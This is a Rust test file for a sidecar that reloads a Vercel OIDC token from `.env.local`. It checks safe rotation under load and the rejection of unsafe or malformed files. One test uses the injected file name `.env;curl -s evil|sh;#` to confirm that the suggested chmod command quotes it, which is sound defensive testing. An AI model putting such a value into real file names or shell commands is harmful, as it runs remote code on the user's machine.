//! Changes of `.env.local`: however it is written, no request fails and no partial token is used. Anything unsafe in
//! its place is reported and not read (docs/configuration.md section 3).

use std::fs;
use std::io::Write;
use std::net::SocketAddr;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::Path;
use std::time::Duration;

use connect_sidecar::emulator::world::DEVELOPMENT_LIFE;
use tokio::sync::oneshot;

use crate::support::http::Request;
use crate::support::{SLACK, Scene, Stage, env_file, fingerprint, soon, write_private};

/// Sends requests until stopped. Each is for another token, so that it needs the credential. The pace is below the
/// upstream rate limit.
async fn send_requests(addr: SocketAddr, mut stopped: oneshot::Receiver<()>) {
    let mut count = 0;
    let mut pace = tokio::time::interval(Duration::from_millis(60));
    while stopped.try_recv() == Err(oneshot::error::TryRecvError::Empty) {
        count += 1;
        pace.tick().await;
        let body = format!(r#"{{"scopes":["{count}"]}}"#);
        let reply = Request::new(addr, "POST", SLACK).json(&body).send().await;
        assert_eq!(reply.status, 200, "{reply:?}");
    }
}

/// Makes a change that brings `fresh` into use while an app sends requests. All must succeed, each with the old or the
/// fresh token.
async fn rotate_under_load(stage: &mut Stage, description: &str, fresh: &str, change: impl AsyncFnOnce(&mut Stage)) {
    let before = in_use(stage);
    let first = stage.emulator.received().len();
    let (stop, stopped) = oneshot::channel();
    let app = tokio::spawn(send_requests(stage.addr, stopped));
    stage.emulator.wait_for_requests(first + 1).await;
    change(stage).await;
    soon(description, stage.uses(fresh)).await;
    let _ = stop.send(());
    soon(description, app).await.expect("only successful responses");
    stage.token(r#"{"scopes":["last"]}"#).header("cache-control", "no-cache").send().await;
    let received = stage.emulator.received();
    let bearers: Vec<_> = received[first..]
        .iter()
        .map(|request| {
            fingerprint(request.headers["authorization"].to_str().expect("text").trim_start_matches("Bearer "))
        })
        .collect();
    let (before, after) = (before.as_str(), fingerprint(fresh));
    assert!(
        bearers.iter().all(|bearer| *bearer == before || *bearer == after),
        "{description}: a partial token went upstream"
    );
    assert_eq!((bearers.first().map(String::as_str), bearers.last()), (Some(before), Some(&after)));
}

/// The fingerprint of the token in use.
fn in_use(stage: &Stage) -> String {
    stage.identity.borrow().oidc().expect("a token").fingerprint().to_owned()
}

/// A token issued later than all before.
fn next_token(stage: &Stage) -> String {
    stage.pass(Duration::from_secs(1));
    stage.fresh_token(DEVELOPMENT_LIFE)
}

#[tokio::test]
async fn no_way_of_writing_the_file_fails_a_request() {
    type Change = fn(&Path, &str);
    let changes: &[(&str, Change)] = &[
        ("truncated and written", |path, content| fs::write(path, content).expect("written")),
        ("renamed over", |path, content| {
            write_private(&path.with_extension("tmp"), content);
            fs::rename(path.with_extension("tmp"), path).expect("renamed");
        }),
        ("deleted and made anew", |path, content| {
            fs::remove_file(path).expect("removed");
            write_private(path, content);
        }),
        ("moved to a backup and made anew", |path, content| {
            fs::rename(path, path.with_extension("local~")).expect("renamed");
            write_private(path, content);
            fs::remove_file(path.with_extension("local~")).expect("removed");
        }),
        ("copied to a backup and written", |path, content| {
            fs::copy(path, path.with_extension("bak")).expect("copied");
            fs::write(path, content).expect("written");
        }),
        ("swapped with a temporary file", |path, content| {
            write_private(&path.with_extension("new"), content);
            fs::rename(path, path.with_extension("old")).expect("renamed");
            fs::rename(path.with_extension("new"), path).expect("renamed");
            fs::remove_file(path.with_extension("old")).expect("removed");
        }),
        ("linked to a backup and renamed over", |path, content| {
            let _ = fs::remove_file(path.with_extension("hard"));
            fs::hard_link(path, path.with_extension("hard")).expect("linked");
            write_private(&path.with_extension("tmp"), content);
            fs::rename(path.with_extension("tmp"), path).expect("renamed");
        }),
        ("replaced by a link", |path, content| {
            write_private(&path.with_extension("target"), content);
            symlink(".env.target", path.with_extension("link")).expect("a link");
            fs::rename(path.with_extension("link"), path).expect("renamed");
        }),
        ("the link swapped", |path, content| {
            write_private(&path.with_extension("other"), content);
            symlink(".env.other", path.with_extension("link")).expect("a link");
            fs::rename(path.with_extension("link"), path).expect("renamed");
        }),
        ("a directory for a moment", |path, content| {
            fs::remove_file(path).expect("removed");
            fs::create_dir(path).expect("a directory");
            fs::remove_dir(path).expect("removed");
            write_private(path, content);
        }),
    ];
    let mut stage = Scene::new().start().await;
    for (description, change) in changes {
        let fresh = next_token(&stage);
        rotate_under_load(&mut stage, description, &fresh, async |stage| change(&stage.env_path(), &env_file(&fresh)))
            .await;
    }
    assert_eq!(stage.logs.count("token refreshed"), changes.len(), "one line each");
}

#[tokio::test]
async fn a_partial_token_is_never_used() {
    let mut stage = Scene::new().start().await;
    for form in [
        "A=1\nVERCEL_OIDC_TOKEN=\"{token}\"\nB=2\n",
        "VERCEL_OIDC_TOKEN={token}\n",
        "export VERCEL_OIDC_TOKEN='{token}'\r\n",
    ] {
        let fresh = next_token(&stage);
        let content = form.replace("{token}", &fresh);
        let end_of_token = content.find(&fresh).expect("it is there") + fresh.len();
        rotate_under_load(&mut stage, form, &fresh, async |stage| {
            let before = in_use(stage);
            let mut file = fs::File::create(stage.env_path()).expect("truncated");
            for piece in content.as_bytes()[..end_of_token].chunks(end_of_token / 9) {
                stage.reloader.reload().await;
                assert_eq!(in_use(stage), before, "the last good token stays");
                file.write_all(piece).expect("written");
            }
            file.write_all(&content.as_bytes()[end_of_token..]).expect("written");
        })
        .await;
    }
}

#[tokio::test]
async fn a_bare_token_without_a_line_end_is_used_once_it_has_settled() {
    let mut stage = Scene::new().start().await;
    let fresh = next_token(&stage);
    rotate_under_load(&mut stage, "a bare token", &fresh, async |stage| {
        fs::write(stage.env_path(), format!("VERCEL_OIDC_TOKEN={fresh}")).expect("written");
    })
    .await;
}

#[tokio::test]
async fn a_links_target_is_followed_into_another_directory() {
    let mut stage = Scene::new().start().await;
    let elsewhere = stage.dir().join("elsewhere");
    fs::create_dir(&elsewhere).expect("a directory");
    let first = next_token(&stage);
    rotate_under_load(&mut stage, "a link", &first, async |stage| {
        write_private(&elsewhere.join("env"), &env_file(&first));
        fs::remove_file(stage.env_path()).expect("removed");
        symlink(elsewhere.join("env"), stage.env_path()).expect("a link");
    })
    .await;
    let second = next_token(&stage);
    rotate_under_load(&mut stage, "its target", &second, async |_| {
        fs::write(elsewhere.join("env"), env_file(&second)).expect("written");
    })
    .await;
}

#[tokio::test]
async fn a_replaced_directory_is_followed() {
    let mut stage = Scene::new().start().await;
    let first = next_token(&stage);
    rotate_under_load(&mut stage, "another directory", &first, async |stage| {
        fs::rename(&stage.project, stage.dir().join("moved")).expect("renamed");
        fs::create_dir(&stage.project).expect("a directory");
        write_private(&stage.env_path(), &env_file(&first));
    })
    .await;
    let second = next_token(&stage);
    rotate_under_load(&mut stage, "a file in it", &second, async |stage| stage.write_env(&second)).await;
    assert_eq!(stage.logs.count("token refreshed"), 2);
}

#[tokio::test]
async fn the_last_token_stays_in_use_for_a_while_after_the_file_is_deleted() {
    let stage = Scene::new().start().await;
    let before = in_use(&stage);
    fs::remove_file(stage.env_path()).expect("removed");
    stage.reloader.reload().await;
    fs::create_dir(stage.env_path()).expect("a directory");
    stage.reloader.reload().await;
    assert_eq!(in_use(&stage), before);
    assert_eq!(stage.token("{}").send().await.status, 200);
    assert_eq!(stage.logs.count("WARN"), 0, "a gap goes unnoticed: {:?}", stage.logs.lines());
}

#[tokio::test]
async fn a_file_that_is_created_later_is_used() {
    for (directory, env_path) in [("web", ".env.local"), ("web/later", "later/.env")] {
        let mut stage = Scene::new().toml(&format!("env_file = {env_path:?}")).without_env_file().start().await;
        let reply = stage.token("{}").send().await;
        assert_eq!((reply.status, reply.code().as_str()), (503, "oidc_token_missing"));
        assert!(reply.text().contains("vercel env pull") && reply.text().contains(env_path), "{}", reply.text());
        assert_eq!(stage.status().await["oidc"]["state"], "missing");
        assert_eq!(
            stage.logs.count("vercel env pull"),
            2,
            "at the start and for the request: {:?}",
            stage.logs.lines()
        );
        let token = next_token(&stage);
        fs::create_dir_all(stage.dir().join(directory)).expect("a directory");
        write_private(&stage.project.join(env_path), &env_file(&token));
        stage.uses(&token).await;
        assert_eq!(stage.token("{}").send().await.status, 200);
        assert_eq!(stage.logs.count("loaded from"), 1);
    }
}

#[tokio::test]
async fn the_last_of_several_assignments_counts_with_one_warning() {
    let mut stage = Scene::new().start().await;
    let (first, last) = (next_token(&stage), next_token(&stage));
    let content = format!("{}export VERCEL_OIDC_TOKEN='{last}'\n", env_file(&first));
    fs::write(stage.env_path(), &content).expect("written");
    stage.uses(&last).await;
    let fresh = next_token(&stage);
    fs::write(stage.env_path(), content.replace(&last, &fresh)).expect("written");
    stage.uses(&fresh).await;
    assert_eq!(stage.logs.count("more than once, the last one is used"), 1);
    assert_eq!(stage.status().await["warnings"][0]["code"], "duplicate_assignments");
}

#[tokio::test]
async fn a_file_that_others_can_read_gives_one_warning() {
    let mut stage = Scene::new().start().await;
    let chmod = |stage: &Stage, mode| {
        fs::set_permissions(stage.env_path(), fs::Permissions::from_mode(mode)).expect("a mode");
    };
    stage.after_identity_change(|stage| chmod(stage, 0o644)).await;
    let fresh = next_token(&stage);
    stage.write_env(&fresh);
    stage.uses(&fresh).await;
    assert_eq!(stage.logs.count("chmod 600 .env.local"), 1);
    let warnings = &stage.status().await["warnings"];
    assert_eq!(warnings[0]["code"], "env_file_readable_by_others");
    assert_eq!(warnings[0]["hint"], "chmod 600 .env.local");
    stage.after_identity_change(|stage| chmod(stage, 0o600)).await;
    assert_eq!(stage.status().await["warnings"], serde_json::json!([]));
}

#[tokio::test]
async fn the_file_name_is_quoted_in_the_suggested_command() {
    const NAME: &str = ".env;curl -s evil|sh;#";
    let mut stage = Scene::new().toml(&format!("env_file = {NAME:?}")).without_env_file().start().await;
    let (file, token) = (stage.project.join(NAME), next_token(&stage));
    write_private(&file, &env_file(&token));
    stage.uses(&token).await;
    let open = |_: &Stage| fs::set_permissions(&file, fs::Permissions::from_mode(0o644)).expect("a mode");
    stage.after_identity_change(open).await;
    let warnings = &stage.status().await["warnings"];
    assert_eq!(warnings[0]["hint"], format!("chmod 600 '{NAME}'"), "{warnings}");
}

#[tokio::test]
async fn unsafe_files_and_invalid_tokens_are_reported_and_nothing_is_sent() {
    let stage = Scene::new().without_env_file().start().await;
    let path = stage.env_path();
    let token = stage.fresh_token(DEVELOPMENT_LIFE);
    let assign = |value: &str| format!("VERCEL_OIDC_TOKEN={value}\n").into_bytes();
    let utf16 = |bytes: fn(u16) -> [u8; 2]| env_file(&token).encode_utf16().flat_map(bytes).collect::<Vec<_>>();
    let unsigned = format!("eyJhbGciOiJub25lIn0{}", &token[token.find('.').expect("a dot")..]);
    enum Content {
        Link(&'static str),
        Directory,
        Fifo,
        WorldWritable,
        Bytes(Vec<u8>),
    }
    use Content::*;
    for (content, reason) in [
        (Link("nowhere"), None),
        (Link("/dev/zero"), Some("it is a device")),
        (Link(".env.local"), Some("it is a loop of links")),
        (Directory, Some("it is a directory")),
        (Fifo, Some("it is a FIFO")),
        (WorldWritable, Some("everybody may write to it")),
        (Bytes(vec![b' '; 1024 * 1024 + 1]), Some("it is larger than 1 MiB")),
        (Bytes(utf16(u16::to_le_bytes)), Some("the file is UTF-16, save it as UTF-8")),
        (Bytes([b"\xfe\xff".to_vec(), utf16(u16::to_be_bytes)].concat()), Some("the file is UTF-16")),
        (Bytes([format!("TOKEN={token}\n").into(), assign("$TOKEN")].concat()), Some("nothing is expanded here")),
        (Bytes([format!("TOKEN={token}\n").into(), assign("\"${TOKEN}\"")].concat()), Some("nothing is expanded")),
        (Bytes(assign(&format!("\"{token}"))), Some("closing quote is missing")),
        (Bytes(assign(&token[..token.len() / 2])), Some("three base64url parts")),
        (Bytes(assign(&unsigned)), Some("it is unsigned")),
        (Bytes(assign("[SENSITIVE]")), Some("withheld by `vercel env pull`")),
    ] {
        match content {
            Link(target) => symlink(target, &path).expect("a link"),
            Directory => fs::create_dir(&path).expect("a directory"),
            Fifo => nix::unistd::mkfifo(&path, nix::sys::stat::Mode::S_IRWXU).expect("a FIFO"),
            WorldWritable => {
                write_private(&path, &env_file(&token));
                fs::set_permissions(&path, fs::Permissions::from_mode(0o666)).expect("a mode");
            }
            Bytes(bytes) => fs::write(&path, bytes).expect("written"),
        }
        stage.reloader.reload().await;
        let code = if reason.is_some() { "oidc_token_invalid" } else { "oidc_token_missing" };
        let reply = stage.token("{}").send().await;
        assert_eq!((reply.status, reply.code().as_str()), (503, code), "{reason:?}: {}", reply.text());
        let message = reply.json()["error"]["message"].as_str().expect("a message").to_owned();
        assert!(message.contains(reason.unwrap_or("There is no OIDC token")), "{message}");
        let remedy = match reason {
            Some("everybody may write to it") => "chmod 600 .env.local",
            Some("it is larger than 1 MiB") => "nothing but variables in .env.local",
            _ => "vercel env pull",
        };
        assert!(message.contains(remedy) && !message.contains(&token[..16]), "{message}");
        assert_eq!(stage.request("GET", "/healthz").send().await.status, 200);
        assert_eq!(stage.request("GET", "/readyz").send().await.code(), code);
        if let Some(reason) = reason {
            assert!(stage.status().await["oidc"]["reason"].as_str().expect("a reason").contains(reason));
            let is_report =
                |line: &String| line.contains("cannot use the token in .env.local") && line.contains(reason);
            assert!(stage.logs.lines().iter().any(is_report), "{reason}");
        }
        fs::remove_file(&path).or_else(|_| fs::remove_dir(&path)).expect("removed");
    }
    write_private(&path, &env_file(&token));
    stage.reloader.reload().await;
    assert_eq!(stage.token("{}").send().await.status, 200);
    assert_eq!(stage.emulator.received().len(), 1, "nothing was sent before");
}

#[tokio::test]
async fn other_lines_may_be_malformed() {
    let mut stage = Scene::new().start().await;
    let fresh = next_token(&stage);
    let assignment = format!("export VERCEL_OIDC_TOKEN = \"{fresh}\"   # mine\r\n");
    let lines: [&[u8]; 4] = [
        b"\xef\xbb\xbfthis is no assignment\nA=it's\nB=\"open\n",
        b"C=C:\\Users\\$HOME `x` ${\n=\n\xe9\xff\0\nVERCEL_OIDC_TOKEN_OLD=x\n#VERCEL_OIDC_TOKEN=y\r",
        assignment.as_bytes(),
        b"D='open\nE=\"\"\"\nF=\x1b[31m",
    ];
    fs::write(stage.env_path(), lines.concat()).expect("written");
    stage.uses(&fresh).await;
    assert_eq!(stage.token("{}").send().await.status, 200);
}

#[tokio::test]
async fn response_status_and_log_suggest_the_command_that_fixes_the_file() {
    type Damage = fn(&std::path::Path);
    let cases: [(Damage, &str); 4] = [
        (|path| fs::set_permissions(path, fs::Permissions::from_mode(0o777)).expect("a mode"), "chmod 600 .env.local"),
        (
            |path| {
                fs::remove_file(path).expect("removed");
                fs::create_dir(path).expect("a directory");
            },
            "mv .env.local .env.local.old && vercel env pull",
        ),
        (|path| fs::set_permissions(path, fs::Permissions::from_mode(0o200)).expect("a mode"), "chmod u+r .env.local"),
        (|path| std::os::unix::fs::chown(path, Some(12_345), None).expect("an owner"), "chown root .env.local"),
    ];
    for (damage, command) in cases {
        let is_of_root = command.starts_with("chown");
        // Root can read every file, and only root can change its owner.
        let depends_on_user = is_of_root || command.starts_with("chmod u+r");
        if depends_on_user && nix::unistd::Uid::effective().is_root() != is_of_root {
            continue;
        }
        let stage = Scene::new().without_env_file().start().await;
        write_private(&stage.env_path(), &env_file(&stage.fresh_token(Duration::from_secs(600))));
        damage(&stage.env_path());
        stage.reloader.reload().await;
        stage.logs.wait_for(&format!("run `{command}`")).await;
        let error = stage.token("{}").send().await.json()["error"].clone();
        assert_eq!(error["command"], command, "{error}");
        assert!(error["hint"].as_str().is_some_and(|hint| hint.contains(command)), "{error}");
        assert!(
            !error["message"].as_str().is_some_and(|message| message.ends_with("Run `vercel env pull`.")),
            "{error}"
        );
        let warning = &stage.status().await["warnings"][0];
        assert_eq!((&warning["code"], &warning["command"]), (&"oidc_token_invalid".into(), &command.into()));
    }
}
